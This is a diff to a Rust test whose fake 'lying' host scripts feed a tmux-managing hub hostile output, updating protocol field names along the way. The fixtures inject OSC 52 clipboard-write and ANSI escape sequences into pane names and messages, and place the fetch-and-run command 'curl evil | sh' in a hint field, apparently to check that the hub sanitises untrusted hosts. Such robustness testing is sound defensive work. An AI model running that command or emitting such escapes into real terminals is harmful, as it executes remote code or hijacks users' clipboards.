@@ -25,11 +25,11 @@ fn a_hostile_host_does_not_affect_other_hosts_or_the_hub() {
         ),
         (
             "asks",
-            "printf '{\"type\":\"hello\",\"collect\":1,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"request\",\"id\":1,\"ask\":{\"kill\":{\"ref\":\"claude\"}}}\\n'; exec cat >/dev/null",
+            "printf '{\"type\":\"hello\",\"collect\":2,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"request\",\"id\":1,\"action\":{\"kill\":{\"ref\":\"claude\"}}}\\n'; exec cat >/dev/null",
         ),
         (
             "lies",
-            "printf '{\"type\":\"hello\",\"collect\":1,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"batch\",\"full\":true,\"evidence\":[{\"kind\":\"server_gone\",\"server\":\"default\"},{\"kind\":\"target_outage\",\"outage\":[\"tmux_too_old\",\"\\\\u001b[31mboo\"]}]}\\n'; exec cat >/dev/null",
+            "printf '{\"type\":\"hello\",\"collect\":2,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"batch\",\"full\":true,\"evidence\":[{\"kind\":\"server_gone\",\"server\":\"default\"},{\"kind\":\"host_outage\",\"outage\":{\"code\":\"tmux_too_old\",\"message\":\"\\\\u001b[31mboo\"}}]}\\n'; exec cat >/dev/null",
         ),
     ];
     let hostile = |(alias, script): &(&str, &str)| {
@@ -68,21 +68,21 @@ fn a_hostile_host_does_not_affect_other_hosts_or_the_hub() {
 const LYING_AGTMUX: &str = r##"#!/bin/sh
 copies='\u001b]52;c;aGFoYQ==\u0007'
 say() { printf '%s\n' "$1"; }
-say '{"type":"hello","collect":1,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
-say '{"type":"batch","full":true,"evidence":[{"kind":"listed","server":"default","generation":{"pid":7,"start_time":7},
+say '{"type":"hello","collect":2,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
+say '{"type":"batch","full":true,"evidence":[{"kind":"panes","server":{"name":"default","pid":7,"start_time":7},
 "rows":[{"session":"$0","session_name":"s'"$copies"'","window":"@0","window_index":0,"window_name":"w'"$copies"'","pane":"%0",
-"pane_index":0,"pid":8,"tty":"'"$copies"'","dead":null,"title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
-while say '{"type":"beat","now":"2026-01-01T00:00:00Z"}'; do sleep 1; done &
+"pane_index":0,"pid":8,"tty":"'"$copies"'","title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
+while say '{"type":"heartbeat","now":"2026-01-01T00:00:00Z"}'; do sleep 1; done &
 beats=$!
 while read -r line; do
     id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
     [ -n "$id" ] || continue
     case $line in
     *view_output*)
-        say '{"type":"reply","id":'"$id"',"answer":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
+        say '{"type":"reply","id":'"$id"',"outcome":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
 "runtime_id":null,"target":"host","server":"default","pane_id":"%0","latency_ms":1,"lines":["seen'"$copies"'"],
 "title":"'"$copies"'","full_screen":false,"tty":"/dev/tty"}}}' | tr -d '\n'; echo ;;
-    *) say '{"type":"reply","id":'"$id"',"answer":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
+    *) say '{"type":"reply","id":'"$id"',"outcome":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
     esac
 done
 kill "$beats"
